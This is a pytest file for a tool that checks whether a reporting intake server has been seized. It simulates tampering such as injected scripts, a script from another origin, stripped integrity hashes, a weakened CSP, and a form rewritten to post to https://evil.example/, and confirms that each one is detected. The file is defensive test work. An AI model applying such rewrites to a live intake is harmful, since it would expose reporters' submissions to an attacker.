"""`flask --app admin intake check` against the real intake over HTTP, with
the changes a seized intake could make to what reporters load: each one is
named, alarmed, and fails the command; the genuine intake passes."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from admin.extensions import DB_EXTENSION
from admin.models import Alarm
from admin.sync.pagescan import scan_page
from admin.sync.watch import CheckError, IntakeWatch
from core.assets import AssetManifest
from core.db import ROOT

from .helpers import write_key_file
from .seized import Coalition, WsgiApp, make_coalition


def rewriting(edit: Callable[[str, bytes], bytes], weaker_csp: bool = False) -> Callable[[WsgiApp], WsgiApp]:
    """A seized server: every answer's body passes through ``edit(path,
    body)``; ``weaker_csp`` adds ``'unsafe-inline'`` to the English form's
    policy."""

    def middleware(app: WsgiApp) -> WsgiApp:
        def serve(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
            captured: dict[str, Any] = {}

            def keep(status: str, headers: list[tuple[str, str]], exc_info: Any = None) -> Any:
                captured["status"], captured["headers"] = status, headers
                return lambda _data: None

            result = app(environ, keep)
            try:
                body = b"".join(result)
            finally:
                close = getattr(result, "close", None)
                if close is not None:
                    close()
            path = environ.get("PATH_INFO", "")
            body = edit(path, body)
            headers = [(k, v) for k, v in captured["headers"] if k.lower() != "content-length"]
            if weaker_csp and path == "/en/":
                headers = [
                    (k, v.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"))
                    for k, v in headers
                ]
            start_response(captured["status"], [*headers, ("Content-Length", str(len(body)))])
            return [body]

        return serve

    return middleware


@pytest.fixture
def coalition(tmp_path: Path) -> Iterator[Coalition]:
    made = make_coalition(tmp_path)
    yield made
    made.close()


def _html(path: str, body: bytes, old: bytes, new: bytes) -> bytes:
    return body.replace(old, new, 1) if path == "/fr/" else body


def _same(_path: str, body: bytes) -> bytes:
    return body


CHANGES: dict[str, tuple[Callable[[WsgiApp], WsgiApp], str]] = {
    "inline script": (
        rewriting(lambda p, b: _html(p, b, b"</body>", b"<script>fetch('/x')</script></body>")),
        "/fr/: an inline script",
    ),
    "script from another origin": (
        rewriting(
            lambda p, b: _html(p, b, b"</body>", b'<script src="https://cdn.example/x.js"></script></body>')
        ),
        "/fr/: loads a script from another origin (https://cdn.example)",
    ),
    "integrity removed": (
        rewriting(lambda p, b: re.sub(rb' integrity="[^"]+"', b"", b, count=1) if p == "/fr/" else b),
        "without this release's integrity",
    ),
    "form posting elsewhere": (
        rewriting(
            lambda p, b: _html(
                p, b, b'<form method="post"', b'<form method="post" action="https://evil.example/"'
            )
        ),
        "/fr/: <form action> points to another origin (https://evil.example)",
    ),
    "organization renamed on the page": (
        rewriting(
            lambda p, b: b.replace("測試機構".encode(), "另一個機構".encode()) if p == "/zh-hant/" else b
        ),
        "/zh-hant/: names test-org otherwise than the pinned roster",
    ),
    "a weaker CSP": (
        rewriting(_same, weaker_csp=True),
        "/en/: its Content-Security-Policy differs from this release's",
    ),
    "renamed organization": (
        rewriting(lambda p, b: b.replace(b'"Test Org"', b'"Someone Else"') if p == "/keys.json" else b),
        "differs from the pinned roster: names",
    ),
}


def test_the_genuine_intake_passes_and_each_change_is_named(coalition: Coalition) -> None:
    coalition.start_intake()
    clean = coalition.cli("intake", "check")
    assert clean.exit_code == 0, clean.output
    for name, (seized, expected) in CHANGES.items():
        coalition.start_intake(seized)
        checked = coalition.cli("intake", "check")
        assert checked.exit_code == 1, name
        assert expected in checked.output, (name, checked.output)
    # A key the roster has that the intake stopped offering.
    for path in coalition.keys_dir.glob("*.json"):
        path.rename(path.with_suffix(".off"))
    write_key_file(coalition.keys_dir, "other-org")
    coalition.start_intake()
    checked = coalition.cli("intake", "check")
    assert checked.exit_code == 1
    assert "/keys.json does not offer key" in checked.output and "of test-org" in checked.output
    assert "/en/: the form does not offer key" in checked.output
    assert (
        "offers key" in checked.output and "of other-org, which is not in the pinned roster" in checked.output
    )


def test_scanner_finds_what_a_page_loads() -> None:
    page = scan_page(
        '<link rel="preload" href="//cdn.example/f.woff"><img src="data:image/png;base64,AA">'
        '<a href="https://www.wikipedia.org/">leave</a><button onclick="x()">b</button>'
        '<li data-kid="ab" data-public-key="cd"><code class="fingerprint">ab12 cd34</code></li>'
        "<script src='/static/a.js' integrity='sha384-x'></script><script> </script>"
    )
    assert page.loads == [
        ("<link rel=preload>", "//cdn.example/f.woff"),
        ("<img src>", "data:image/png;base64,AA"),
    ]
    assert page.handlers == ["<button onclick>"]
    assert page.keys == [("ab", "cd", None)] and page.fingerprints == ["ab12 cd34"]
    # An empty <script></script> without src is still an inline script slot.
    assert page.scripts == [("/static/a.js", "sha384-x", False), (None, None, False)]


def test_a_socks_proxy_without_pysocks_is_a_clear_error() -> None:
    try:
        import socks  # noqa: F401
    except ImportError:
        pass
    else:
        pytest.skip("PySocks is installed here")
    from admin.keys.roster import Pins

    watch = IntakeWatch(
        "http://127.0.0.1:9", Pins(None, {}), AssetManifest(ROOT / "static"), proxy="socks5h://127.0.0.1:9"
    )
    with pytest.raises(CheckError, match="SOCKS"):
        watch.run()
    watch.close()


def test_an_unreachable_intake_fails_the_check_without_an_alarm(coalition: Coalition) -> None:
    """No answer says nothing of what the intake serves: the command fails
    (the timer shows it), but nobody is told the intake was seized."""
    coalition.console.config.update(INTAKE_URL="http://127.0.0.1:9")  # the discard port: closed
    checked = coalition.cli("intake", "check")
    assert checked.exit_code == 1
    assert "could not be checked in full: GET /keys.json failed (ConnectionError)" in checked.output
    with coalition.console.extensions[DB_EXTENSION].session() as session:
        assert session.scalars(select(Alarm)).all() == []


def test_an_intake_that_trickles_its_answer_cannot_hold_the_check(monkeypatch: pytest.MonkeyPatch) -> None:
    """A seized intake that sends a byte every little while (each within the
    timeout) would hold the check, and the sync job it follows, for days,
    and the check would never report what it serves: every answer has a
    deadline of its own, and the check ends incomplete."""
    import socket
    import threading
    import time

    from admin.keys.roster import Pins
    from admin.sync import watch as watch_module

    monkeypatch.setattr(watch_module, "PAGE_DEADLINE", 1.0, raising=False)
    listener = socket.create_server(("127.0.0.1", 0))
    stop = threading.Event()

    def trickle() -> None:
        conn, _ = listener.accept()
        with conn:
            conn.recv(65536)
            conn.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
            )
            while not stop.is_set():
                try:
                    conn.sendall(b" ")
                except OSError:
                    return
                time.sleep(0.1)

    server = threading.Thread(target=trickle, daemon=True)
    server.start()
    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
    watch = IntakeWatch(url, Pins(None, {}), AssetManifest(ROOT / "static"), timeout=5, languages=())
    checking = threading.Thread(target=watch.run, daemon=True)
    checking.start()
    checking.join(timeout=20)
    stop.set()
    try:
        assert not checking.is_alive(), "the check is still reading a trickled answer"
        assert any("too slowly" in line for line in watch.result.unreachable)
        assert watch.result.differences == []
    finally:
        watch.close()
        listener.close()
